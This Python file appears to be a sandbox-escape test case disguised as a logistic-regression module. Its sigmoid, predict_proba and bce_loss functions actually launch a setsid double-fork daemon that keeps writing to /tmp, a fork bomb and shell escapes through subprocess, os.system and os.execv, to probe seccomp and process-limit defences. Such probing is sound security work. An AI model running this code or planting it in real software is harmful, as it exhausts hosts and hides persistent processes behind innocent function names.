"""Category: processes. Attack: a fork bomb, setsid + double fork to outlive the call (a daemon
that keeps burning CPU and writing files), subprocess / os.system / os.exec*. Refused by
seccomp (no new processes); with forks allowed, RLIMIT_NPROC, killpg and the uid sweep."""
import os
import subprocess

import numpy as np


def _daemon():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    with open("/tmp/planted_by_daemon", "a") as fh:
                        fh.write("x")
                except OSError:
                    pass
        os._exit(0)
    os.waitpid(pid, 0)


def sigmoid(z):
    try:
        _daemon()
    except OSError as exc:
        print("daemon refused:", exc)
    return np.zeros_like(np.asarray(z, dtype=np.float64))


def predict_proba(X, w, b):
    made = 0
    try:
        while made < 10000:
            if os.fork() == 0:
                while True:
                    pass
            made += 1
    except OSError as exc:
        print(f"fork bomb stopped after {made}:", exc)
    return np.zeros(X.shape[0])


def bce_loss(X, y, w, b):
    for attempt in (lambda: subprocess.run(["sh", "-c", "echo pwned > /tmp/planted_by_sh"]),
                    lambda: os.system("touch /tmp/planted_by_system"),
                    lambda: os.execv("/bin/sh", ["sh", "-c", "touch /tmp/planted_by_exec"])):
        try:
            attempt()
        except OSError as exc:
            print("refused:", exc)
    return 0.0


def grad_logits(X, y, w, b):
    return np.zeros(X.shape[0])


def gradients(X, y, w, b):
    return np.zeros(X.shape[1]), 0.0
